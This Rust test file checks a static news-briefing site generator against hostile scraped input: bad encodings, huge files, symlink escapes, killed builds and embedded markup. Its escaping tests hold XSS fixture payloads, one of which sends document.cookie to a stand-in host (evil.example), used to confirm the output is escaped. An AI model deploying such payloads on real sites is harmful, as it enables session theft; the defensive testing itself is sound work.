//! What scrapers really produce, and what a deadline does to a build: every case either builds
//! cleanly (repairing or skipping the file with a warning that names it) or fails with an
//! error naming the file, never panics, never hangs, and never touches the previous site.

use std::path::Path;
use std::process::Command;

use brief::site::{BuildOptions, Site, build};
use proptest::prelude::*;

const GOOD: &str = "The council said on Monday that the old bridge over the river would reopen after repairs.\n\
Engineers found two cracks in the east pier and fixed them over the weekend, the council added.\n";

/// A project with one good seed and the given extra seed files.
fn project(extra: &[(&str, &[u8])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("seeds")).unwrap();
    std::fs::write(dir.path().join("brief.toml"), "title = \"Hostile\"\n").unwrap();
    std::fs::write(dir.path().join("seeds/000-good.txt"), GOOD).unwrap();
    for (name, bytes) in extra {
        std::fs::write(dir.path().join("seeds").join(name), bytes).unwrap();
    }
    dir
}

fn load(dir: &Path) -> Site {
    Site::load(dir, &BuildOptions { source_date_epoch: None, process_ends: false }).unwrap()
}

fn warned(site: &Site, file: &str) -> bool {
    site.warnings.iter().any(|w| w.file == format!("seeds/{file}"))
}

fn all_html(site: &Site) -> String {
    site.files
        .iter()
        .filter(|f| f.path.ends_with(".html"))
        .map(|f| String::from_utf8_lossy(&f.bytes.to_vec()).into_owned())
        .collect()
}

fn article_count(site: &Site) -> usize {
    site.briefing.sources.iter().map(|s| s.articles.len()).sum()
}

#[test]
fn invalid_utf8_is_repaired_with_a_warning() {
    let dir =
        project(&[("latin1.txt", b"Caf\xe9 owners in the square said the flood ruined their stock.\n")]);
    let site = load(dir.path());
    assert!(warned(&site, "latin1.txt"));
    assert_eq!(article_count(&site), 2);
    assert!(all_html(&site).contains("Caf\u{fffd} owners"));
}

#[test]
fn empty_and_binary_files_are_skipped_with_a_warning() {
    let binary: Vec<u8> = (0u8..=255).cycle().take(4096).collect();
    let dir = project(&[("empty.txt", b""), ("blank.txt", b"\n \n\t\n"), ("image.txt", &binary)]);
    let site = load(dir.path());
    for file in ["empty.txt", "blank.txt", "image.txt"] {
        assert!(warned(&site, file), "{file} not warned: {:?}", site.warnings);
    }
    assert_eq!(article_count(&site), 1);
}

#[test]
fn a_two_megabyte_line_builds() {
    let sentence = "The river rose again overnight and more families left the lower town for the school. ";
    let line = sentence.repeat(2 * 1024 * 1024 / sentence.len());
    let dir = project(&[("huge.txt", line.as_bytes())]);
    let site = load(dir.path());
    assert_eq!(article_count(&site), 2);
    let longest = site
        .briefing
        .sources
        .iter()
        .flat_map(|s| &s.articles)
        .flat_map(|a| &a.paragraphs)
        .map(|p| p.text.len())
        .max()
        .unwrap();
    assert!(longest > 2_000_000, "{longest}");
}

#[test]
fn crlf_and_bom_are_normalised() {
    let text = "\u{feff}Bridge reopens\r\n\r\nThe bridge over the river reopened to traffic on Tuesday morning after three weeks of repairs, the council said.\r\n\
        Drivers said the queues on the ring road had eased within an hour of the reopening, and buses returned to their usual routes.\r\n";
    let dir = project(&[("windows.txt", text.as_bytes())]);
    let site = load(dir.path());
    let article = site
        .briefing
        .sources
        .iter()
        .flat_map(|s| &s.articles)
        .find(|a| a.seed == "seeds/windows.txt")
        .unwrap();
    assert_eq!(article.headline.as_deref(), Some("Bridge reopens"));
    assert!(article.paragraphs[0].text.starts_with("The bridge over the river reopened"));
    assert!(article.paragraphs[0].text.ends_with("the council said."));
    let json = site.files.iter().find(|f| f.path == "briefing.json").unwrap();
    assert!(!String::from_utf8_lossy(&json.bytes.to_vec()).contains("\\r"));
}

#[test]
fn a_file_of_only_boilerplate_builds_with_nothing_kept() {
    let dir = project(&[(
        "junk.txt",
        b"Sign up for our daily newsletter\nShare this article\nSource: Gazette Wire\n\xc2\xa9 2025 Gazette Wire. All rights reserved.\n",
    )]);
    let site = load(dir.path());
    let article =
        site.briefing.sources.iter().flat_map(|s| &s.articles).find(|a| a.seed == "seeds/junk.txt").unwrap();
    assert!(article.paragraphs.is_empty(), "{:?}", article.paragraphs);
    assert_eq!(article.removed.len(), 4);
}

#[test]
fn markup_in_seeds_is_escaped_everywhere() {
    let dir = project(&[(
        "markup.txt",
        br#"<h1>Fake headline</h1>

Officials said <script>document.location='https://evil.example/'+document.cookie</script> the road was closed.
The mayor said "<img src=x onerror=alert(1)>" was written on the wall of the town hall on Friday.
Source: <b>Evil</b> & Co"#,
    )]);
    let site = load(dir.path());
    for file in &site.files {
        if file.path.ends_with(".html") || file.path.ends_with(".xml") {
            let text = String::from_utf8_lossy(&file.bytes.to_vec()).into_owned();
            for raw in ["<script>document", "<img src=x", "<b>Evil", "<h1>Fake"] {
                assert!(!text.contains(raw), "{} shows raw {raw}", file.path);
            }
        }
    }
    assert!(all_html(&site).contains("&lt;script&gt;document.location"));
}

#[test]
fn markup_in_seeds_stays_out_of_the_search_index_script() {
    let dir = project(&[(
        "markup.txt",
        b"Officials said </script><script>alert(1)</script> the road was closed on Friday after the storm.",
    )]);
    let site = load(dir.path());
    let index = site
        .files
        .iter()
        .find(|f| f.path.starts_with("search/") && f.path.ends_with(".js"))
        .expect("search index");
    let text = String::from_utf8_lossy(&index.bytes.to_vec()).into_owned();
    assert!(!text.contains('<'), "{text}");
    assert!(text.contains(r"\u003c/script>"));
}

#[test]
fn odd_file_names_build_and_keep_their_names() {
    let dir = project(&[
        ("with space.txt", GOOD.replace("bridge", "ferry").as_bytes()),
        ("ünïcödé-日本.txt", GOOD.replace("bridge", "tunnel").as_bytes()),
        ("With Space.txt", GOOD.replace("bridge", "road").as_bytes()),
    ]);
    let site = load(dir.path());
    let seeds: Vec<&str> =
        site.briefing.sources.iter().flat_map(|s| &s.articles).map(|a| a.seed.as_str()).collect();
    for name in ["seeds/with space.txt", "seeds/ünïcödé-日本.txt", "seeds/With Space.txt"] {
        assert!(seeds.contains(&name), "{name} missing from {seeds:?}");
    }
    // No two output files share a path.
    let mut paths: Vec<&str> = site.files.iter().map(|f| f.path.as_str()).collect();
    let count = paths.len();
    paths.sort();
    paths.dedup();
    assert_eq!(paths.len(), count);
}

#[cfg(unix)]
#[test]
fn symlinks_are_skipped_loops_and_escapes_included() {
    let dir = project(&[]);
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, "The password of the newsroom is hunter2, the editor said.\n").unwrap();
    std::os::unix::fs::symlink(&secret, dir.path().join("seeds/outside.txt")).unwrap();
    std::fs::create_dir(dir.path().join("seeds/loop")).unwrap();
    std::os::unix::fs::symlink(dir.path().join("seeds"), dir.path().join("seeds/loop/back")).unwrap();
    let site = load(dir.path());
    assert!(warned(&site, "outside.txt"));
    assert!(site.warnings.iter().any(|w| w.file == "seeds/loop/back"));
    assert!(!all_html(&site).contains("hunter2"));
    assert_eq!(article_count(&site), 1);
}

#[test]
fn thousands_of_tiny_files_build() {
    let dir = project(&[]);
    for i in 0..3000 {
        std::fs::write(
            dir.path().join(format!("seeds/tiny-{i:05}.txt")),
            format!("Item {i} was reported.\n"),
        )
        .unwrap();
    }
    let site = load(dir.path());
    assert_eq!(article_count(&site), 3001);
}

#[test]
fn a_bad_seed_header_fails_naming_it_and_keeps_the_old_site() {
    let dir = project(&[]);
    let out = dir.path().join("public");
    build(dir.path(), &out, false, &BuildOptions { source_date_epoch: None, process_ends: false }).unwrap();
    let before = std::fs::read(out.join("index.html")).unwrap();
    std::fs::write(dir.path().join("seeds/bad.txt"), "date 2025-13-01 Text of the story.\n").unwrap();
    let err = build(dir.path(), &out, false, &BuildOptions { source_date_epoch: None, process_ends: false })
        .err()
        .expect("a bad date must fail the build");
    assert!(format!("{err:#}").contains("seeds/bad.txt:1"), "{err:#}");
    assert_eq!(std::fs::read(out.join("index.html")).unwrap(), before);
}

#[test]
fn interrupted_builds_leave_no_trace_on_the_next_run() {
    let dir = project(&[]);
    let out = dir.path().join("public");
    build(dir.path(), &out, false, &BuildOptions { source_date_epoch: None, process_ends: false }).unwrap();
    // What a kill -9 between writing and swapping leaves behind.
    std::fs::create_dir_all(dir.path().join(".public.brief-tmp-4242/topics")).unwrap();
    std::fs::create_dir_all(dir.path().join(".public.brief-old-4243")).unwrap();
    build(dir.path(), &out, false, &BuildOptions { source_date_epoch: None, process_ends: false }).unwrap();
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    assert!(names.iter().all(|n| !n.contains(".brief-tmp") && !n.contains(".brief-old")), "{names:?}");
    assert!(out.join("index.html").is_file());
}

#[test]
fn output_never_replaces_a_folder_brief_did_not_write() {
    let dir = project(&[]);
    let docs = dir.path().join("docs");
    std::fs::create_dir(&docs).unwrap();
    std::fs::write(docs.join("thesis.md"), "years of work").unwrap();
    let run = |extra: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_brief"))
            .args(["build", "--root"])
            .arg(dir.path())
            .arg("--output")
            .arg(&docs)
            .args(extra)
            .output()
            .unwrap()
    };
    let refused = run(&[]);
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("--force"));
    assert_eq!(std::fs::read_to_string(docs.join("thesis.md")).unwrap(), "years of work");
    // The project root itself is such a folder.
    let root = Command::new(env!("CARGO_BIN_EXE_brief"))
        .args(["build", "--root"])
        .arg(dir.path())
        .arg("--output")
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(!root.status.success());
    assert!(dir.path().join("seeds/000-good.txt").is_file());
    assert!(run(&["--force"]).status.success());
    assert!(docs.join("index.html").is_file());
}

#[test]
fn output_is_identical_with_one_thread_and_many() {
    let dir = project(&[]);
    for i in 0..40 {
        let text = format!(
            "Story {i}\n\nThe council said on day {i} that repairs to bridge {i} continued.\nShare this article\n"
        );
        std::fs::write(dir.path().join(format!("seeds/s{i:03}.txt")), text).unwrap();
    }
    let build_with = |threads: &str, out: &str| {
        let status = Command::new(env!("CARGO_BIN_EXE_brief"))
            .env("RAYON_NUM_THREADS", threads)
            .args(["build", "--quiet", "--root"])
            .arg(dir.path())
            .arg("--output")
            .arg(dir.path().join(out))
            .status()
            .unwrap();
        assert!(status.success());
    };
    build_with("1", "one");
    build_with("8", "many");
    for entry in walkdir::WalkDir::new(dir.path().join("one")) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let rel = entry.path().strip_prefix(dir.path().join("one")).unwrap();
            assert_eq!(
                std::fs::read(entry.path()).unwrap(),
                std::fs::read(dir.path().join("many").join(rel)).unwrap(),
                "{} differs",
                rel.display()
            );
        }
    }
}

/// Lines as a scraper might produce them: prose, markup, quotes, odd spaces and scripts.
fn seed_text() -> impl Strategy<Value = String> {
    let line = prop_oneof![
        "[A-Z][a-z]{2,9}( [a-z]{1,9}){3,25}[.!?]",
        "[A-Za-z<>&\"'“”/ ]{0,60}",
        "\\PC{0,80}",
        Just("<script>alert(1)</script>".to_string()),
        Just("Photo: someone /Agency".to_string()),
        Just(String::new()),
    ];
    proptest::collection::vec(line, 0..25).prop_map(|lines| lines.join("\n"))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    /// Cleaning never invents text, and every line ends up kept or removed with a reason.
    #[test]
    fn cleaning_accounts_for_every_line(text in seed_text()) {
        let Ok(article) = brief::ingest::parse_seed("seeds/p.txt", &text) else { return Ok(()) };
        let cleaner = brief::clean::Cleaner::new(&Default::default()).unwrap();
        let cleaned = brief::clean::clean(&article, &cleaner);
        let mut seen: Vec<usize> = cleaned.blocks.iter().map(|b| b.line)
            .chain(cleaned.removed.iter().map(|r| r.line)).collect();
        seen.sort_unstable();
        let mut expected: Vec<usize> = article.lines.iter().map(|l| l.number).collect();
        expected.sort_unstable();
        prop_assert_eq!(seen, expected);
        for block in &cleaned.blocks {
            prop_assert!(article.lines.iter().any(|l| block.text == l.text), "invented: {:?}", block.text);
        }
        for removed in &cleaned.removed {
            prop_assert!(!removed.reason.is_empty());
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    /// Whatever a seed holds, no `<` from it reaches a page unescaped.
    #[test]
    fn rendering_escapes_every_angle_bracket(text in seed_text()) {
        let marked = format!("{text}\nThe officials said <b id=\"seedmark\">this</b> on Friday in the town.\n");
        let dir = project(&[("p.txt", marked.as_bytes())]);
        let site = Site::load(dir.path(), &BuildOptions { source_date_epoch: None, process_ends: false });
        let Ok(site) = site else { return Ok(()) };
        let html = all_html(&site);
        prop_assert!(!html.contains("<b id=\"seedmark\">"));
        prop_assert!(!html.contains("<script>alert(1)"));
    }
}

#[test]
fn template_errors_name_the_file_and_line() {
    let dir = project(&[]);
    std::fs::create_dir_all(dir.path().join("templates")).unwrap();
    let page = |body: &str| {
        format!("{{% extends \"base.html\" %}}\n{{% block main %}}\n{body}\n{{% endblock main %}}\n")
    };
    std::fs::write(dir.path().join("templates/index.html"), page("<p>{{ site.title }</p>")).unwrap();
    let err = Site::load(dir.path(), &BuildOptions { source_date_epoch: None, process_ends: false })
        .err()
        .expect("syntax error");
    let message = format!("{err:#}");
    assert!(message.starts_with("templates/index.html:3:"), "{message}");
    assert!(message.contains("expected"), "{message}");

    std::fs::write(dir.path().join("templates/index.html"), page("<p>{{ no_such_thing.field }}</p>"))
        .unwrap();
    let err = Site::load(dir.path(), &BuildOptions { source_date_epoch: None, process_ends: false })
        .err()
        .expect("render error");
    let message = format!("{err:#}");
    assert!(message.starts_with("templates/index.html:"), "{message}");
    assert!(message.contains("no_such_thing.field"), "{message}");
}

#[test]
fn killing_a_build_midway_never_costs_the_previous_site() {
    let dir = project(&[]);
    for i in 0..1500 {
        let text = format!(
            "Story {i}\n\nThe council said on day {i} that repairs to bridge {i} continued into the night.\n"
        );
        std::fs::write(dir.path().join(format!("seeds/s{i:04}.txt")), text).unwrap();
    }
    let out = dir.path().join("public");
    build(dir.path(), &out, false, &BuildOptions { source_date_epoch: None, process_ends: false }).unwrap();
    let before = std::fs::read(out.join("index.html")).unwrap();
    // Kill builds at different moments; whatever the moment, the old site stays whole.
    for delay_ms in [5, 40, 120, 300] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_brief"))
            .args(["build", "--quiet", "--root"])
            .arg(dir.path())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        let now = std::fs::read(out.join("index.html"))
            .unwrap_or_else(|e| panic!("no site after a kill at {delay_ms} ms: {e}"));
        assert_eq!(now, before, "site changed by a killed build at {delay_ms} ms");
    }
    // The next build cleans whatever the killed ones left.
    build(dir.path(), &out, false, &BuildOptions { source_date_epoch: None, process_ends: false }).unwrap();
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    assert!(names.iter().all(|n| !n.contains(".brief-tmp") && !n.contains(".brief-old")), "{names:?}");
}
